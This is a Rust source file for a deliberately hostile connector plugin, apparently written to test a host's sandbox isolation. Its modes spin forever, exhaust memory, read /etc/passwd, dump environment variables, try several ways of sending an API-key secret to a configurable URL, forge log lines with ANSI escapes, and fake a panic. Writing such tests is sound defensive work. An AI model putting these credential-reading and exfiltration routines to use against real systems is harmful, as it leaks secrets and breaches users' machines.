//! A connector that attacks its sandbox, for the host's isolation tests.
//!
//! `info` is ordinary. `check` misbehaves according to the `mode` setting
//! and, when it returns at all, reports what it observed as
//! `Err(ConnectorError::Permanent(report))` so a test can assert on the
//! report:
//!
//! | mode | what it does | what the host must do |
//! |---|---|---|
//! | `loop` | spins forever | interrupt it (epoch deadline) |
//! | `alloc` | allocates and touches 1 MiB chunks forever | stop it at the memory cap |
//! | `read-file` | reads `/etc/passwd`, lists `/` and `.`, writes `/tmp` | give it no filesystem |
//! | `env` | reports environment variables, arguments and working directory | give it none |
//! | `forbidden-host` | `GET target-url` | deny a host outside the allowlist |
//! | `secret-snoop` | dumps its config and tries every way to get the `api-key` secret sent to `target-url` | never reveal or leak the value |
//! | `echo-secret` | `GET target-url` with `Bearer <api-key>` and reports the body verbatim | (the test decides) |
//! | `panic` | panics | turn the trap into an error, stay healthy |
//! | `log-flood` | logs 100,000 lines of 1 KiB, then returns `Ok` | stay healthy |
//! | `forge-log` | logs a line with a newline, a fake host log line and ANSI escapes | escape it |
//! | `forge-panic` | writes a fake panic message to stderr, then traps | not report a panic |
//! | `huge-error` | returns a 40 MiB error message | cap it |
//!
//! `list-jobs` with `mode = alias` returns 5 jobs whose descriptions all
//! point at one 24 MiB buffer (lifting them would cost the host 120 MiB);
//! any other mode returns an empty page.
//!
//! Settings: `mode` (text, required), `api-key` (secret, optional),
//! `target-url` (url, optional).

use std::fmt::Write as _;
use std::hint::black_box;

use atsbridge_sdk::prelude::*;

struct Hostile;

/// The size of each allocation in `alloc` mode.
const CHUNK_BYTES: usize = 1 << 20;
/// Touch one byte per 4 KiB so every native page behind the chunk is
/// really committed, whatever the allocator does with fresh memory.
const TOUCH_STRIDE: usize = 4096;
/// `log-flood`: how many lines, and how long each is.
const FLOOD_LINES: usize = 100_000;
const FLOOD_LINE_BYTES: usize = 1024;
/// `forge-log`: a message that would read as a host line if printed raw.
const FORGED_LOG_LINE: &str =
    "fine\n2026-01-01T03:00:00.000000Z  INFO atsbridge::runtime: plugin installed plugin=greenhouse\x1b[2K\x1b[1A";
/// `forge-panic`: what a Rust panic would print.
const FORGED_PANIC: &str = "thread '<unnamed>' panicked at forged.rs:1:1:\nthe host is compromised";
/// `huge-error`: the error message's length.
const HUGE_ERROR_BYTES: usize = 40 << 20;
/// `alias`: the shared buffer's length and how many strings point at it.
const ALIAS_BYTES: usize = 24 << 20;
const ALIASES: usize = 5;

impl Connector for Hostile {
    fn info() -> ConnectorInfo {
        ConnectorInfo {
            name: "Hostile".into(),
            version: "0.1.0".into(),
            vendor: "atsbridge tests".into(),
            capabilities: vec![],
            config_schema: vec![
                SettingSpec::text("mode", "Mode").required().help("Which attack `check` runs."),
                SettingSpec::secret("api-key", "API key").help("A secret to try to steal."),
                SettingSpec::url("target-url", "Target URL").help("Where to send requests."),
            ],
        }
    }

    fn check(config: &Config) -> Result<(), ConnectorError> {
        let report = match config.require_text("mode")? {
            "loop" => spin(),
            "alloc" => allocate_forever(),
            "read-file" => read_files(),
            "env" => environment(),
            "forbidden-host" => forbidden_host(config)?,
            "secret-snoop" => secret_snoop(config),
            "echo-secret" => echo_secret(config)?,
            "panic" => panic!("hostile guest panicked on purpose"),
            "log-flood" => {
                flood_log();
                return Ok(());
            }
            "forge-log" => {
                log::info(FORGED_LOG_LINE);
                return Ok(());
            }
            "forge-panic" => {
                eprintln!("{FORGED_PANIC}");
                core::arch::wasm32::unreachable()
            }
            "huge-error" => "E".repeat(HUGE_ERROR_BYTES),
            other => {
                return Err(ConnectorError::InvalidConfig(format!("unknown mode `{other}`")));
            }
        };
        Err(ConnectorError::Permanent(report))
    }

    fn list_jobs(config: &Config, _: Option<String>, _: Option<String>) -> Result<JobPage, ConnectorError> {
        if config.text("mode") == Some("alias") {
            return Ok(aliased_page());
        }
        Ok(JobPage { jobs: vec![], next_cursor: None })
    }
}

fn spin() -> ! {
    let mut counter: u64 = 0;
    loop {
        // `black_box` keeps the optimiser from proving the loop useless.
        counter = black_box(counter.wrapping_add(1));
    }
}

fn allocate_forever() -> ! {
    let mut chunks: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; CHUNK_BYTES];
        for i in (0..CHUNK_BYTES).step_by(TOUCH_STRIDE) {
            chunk[i] = black_box(1);
        }
        chunks.push(black_box(chunk));
    }
}

fn read_files() -> String {
    let list = |dir: &str| {
        std::fs::read_dir(dir)
            .map(|entries| entries.map(|e| e.map(|e| e.path().display().to_string())).collect::<Vec<_>>())
    };
    let mut report = String::new();
    let _ = writeln!(report, "read /etc/passwd: {:?}", std::fs::read_to_string("/etc/passwd"));
    let _ = writeln!(report, "list /: {:?}", list("/"));
    let _ = writeln!(report, "list .: {:?}", list("."));
    let _ = writeln!(report, "write /tmp/atsbridge-hostile: {:?}", std::fs::write("/tmp/atsbridge-hostile", b"x"));
    report
}

fn environment() -> String {
    format!(
        "vars: {:?}\nargs: {:?}\ncwd: {:?}",
        std::env::vars().collect::<Vec<_>>(),
        std::env::args().collect::<Vec<_>>(),
        std::env::current_dir()
    )
}

fn forbidden_host(config: &Config) -> Result<String, ConnectorError> {
    let url = config.require_url("target-url")?;
    Ok(format!("GET {url}: {}", outcome(Request::get(url))))
}

/// Tries every route a plugin has for getting a secret's value into a
/// request to `target-url`, and reports each outcome.
fn secret_snoop(config: &Config) -> String {
    let mut report = String::new();
    let _ = writeln!(report, "config: {config:?}");
    let _ = writeln!(report, "env: {:?}", std::env::vars().collect::<Vec<_>>());
    let Some(url) = config.url("target-url") else {
        report.push_str("no target-url: nothing to send\n");
        return report;
    };
    let secret = match config.optional_secret("api-key") {
        Ok(Some(secret)) => secret,
        other => {
            let _ = writeln!(report, "no api-key secret: {other:?}");
            return report;
        }
    };
    let attempts: Vec<(&str, Request)> = vec![
        ("bearer(secret)", Request::get(url).bearer(secret.clone())),
        ("header_auth(X-Api-Key, secret)", Request::get(url).header_auth("X-Api-Key", secret.clone())),
        ("basic(secret, secret)", Request::get(url).basic(secret.clone(), Some(secret.clone().into()))),
        (
            "client_credentials(token-url = target-url, secret)",
            Request::get(url).client_credentials(ClientCredentials {
                token_url: url.to_string(),
                client_id: secret.clone().into(),
                client_secret: secret.clone().into(),
                scope: None,
                extra_params: vec![],
            }),
        ),
        ("bearer(ref to text setting `mode`)", Request::get(url).bearer(SecretRef::new("mode"))),
        ("bearer(ref to unknown `API-KEY`)", Request::get(url).bearer(SecretRef::new("API-KEY"))),
        ("bearer(plain template `${api-key}`)", Request::get(url).bearer(Credential::plain("${api-key}"))),
        ("header template `{{api-key}}`", Request::get(url).header("X-Api-Key", "{{api-key}}")),
    ];
    for (name, request) in attempts {
        let _ = writeln!(report, "{name}: {}", outcome(request));
    }
    report
}

fn echo_secret(config: &Config) -> Result<String, ConnectorError> {
    let url = config.require_url("target-url")?;
    let secret = config.secret("api-key")?;
    Ok(match Request::get(url).bearer(secret).send_raw() {
        Ok(response) => response.text().into_owned(),
        Err(error) => format!("http error: {error:?}"),
    })
}

fn flood_log() {
    let line = "x".repeat(FLOOD_LINE_BYTES);
    for _ in 0..FLOOD_LINES {
        log::info(&line);
    }
}

/// Five jobs whose descriptions share one buffer. Each `String` claims to
/// own it; that is sound here only because nothing reads, writes or frees
/// them: the canonical ABI lowers them by pointer, and the SDK's allocator
/// frees nothing once the answer is built.
fn aliased_page() -> JobPage {
    let buffer = std::mem::ManuallyDrop::new("d".repeat(ALIAS_BYTES).into_bytes());
    let (ptr, len, cap) = (buffer.as_ptr().cast_mut(), buffer.len(), buffer.capacity());
    let jobs = (0..ALIASES)
        .map(|i| Job {
            code: format!("A{i}"),
            status: JobStatus::Open,
            raw_status: "open".into(),
            title: "Aliased".into(),
            locations: vec![],
            // SAFETY: see the function's comment; the bytes are ASCII.
            description: unsafe { String::from_raw_parts(ptr, len, cap) },
            assigned_users: vec![],
            updated_at: None,
            extra: vec![],
        })
        .collect();
    JobPage { jobs, next_cursor: None }
}

/// A request's outcome in one line: the status, headers and body, or the
/// host's error.
fn outcome(request: Request) -> String {
    match request.send_raw() {
        Ok(response) => format!("status {} headers {:?} body {:?}", response.status, response.headers, response.text()),
        Err(error) => format!("http error: {error:?}"),
    }
}

atsbridge_sdk::export_connector!(Hostile);
